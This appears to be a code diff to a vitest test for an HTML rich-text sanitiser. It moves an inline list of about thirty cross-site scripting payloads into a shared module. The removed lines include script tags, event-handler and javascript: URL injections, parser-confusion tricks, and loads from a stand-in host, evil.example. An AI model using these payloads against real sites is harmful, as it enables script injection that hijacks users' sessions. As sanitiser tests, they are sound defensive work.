@@ -1,45 +1,12 @@
 import { describe, expect, it } from 'vitest';
 import { plainText, readRichText, writeRichText } from '#platform/contract/inputs/richText.ts';
+import { attacks } from '#platform/testing/attacks.ts';
 import { cleanRichText } from './richText.ts';
-
-/** Ways to smuggle a script through a sanitiser: none may leave a tag or an attribute that is not on the list. */
-const attacks = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<p onclick="alert(1)">т</p>',
-  '<b onmouseover=alert(1)>т</b>',
-  '<b style="background:url(javascript:alert(1))">т</b>',
-  '<a href="javascript:alert(1)">т</a>',
-  '<a href="jav&#x09;ascript:alert(1)">т</a>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg/onload=alert(1)>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<style>@import "//evil.example"</style>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<textarea></textarea><script>alert(1)</script>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<b><script>alert(1)//</b>',
-  '<<script>alert(1);//<</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&amp;lt;script&amp;gt;alert(1)',
-  '<p/onclick=alert(1)>т',
-  '<b\u0000 onclick=alert(1)>т</b>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<form action="javascript:alert(1)"><button>т</button></form>',
-  '<base href="//evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-];
 
 const onlyOurs = /^(?:<\/?(?:p|b|i|u)>|<br>|&(?:amp|lt|gt);|[^<>&])*$/;
 
 describe('what is stored of HTML', () => {
-  it.each(attacks)('holds nothing that is not ours: %s [R5-49]', (attack) => {
+  it.each(attacks)('holds nothing that is not ours: %s [R5-49] [P24]', (attack) => {
     const stored = cleanRichText(attack);
     expect(stored).toMatch(onlyOurs);
     expect(cleanRichText(stored)).toBe(stored);
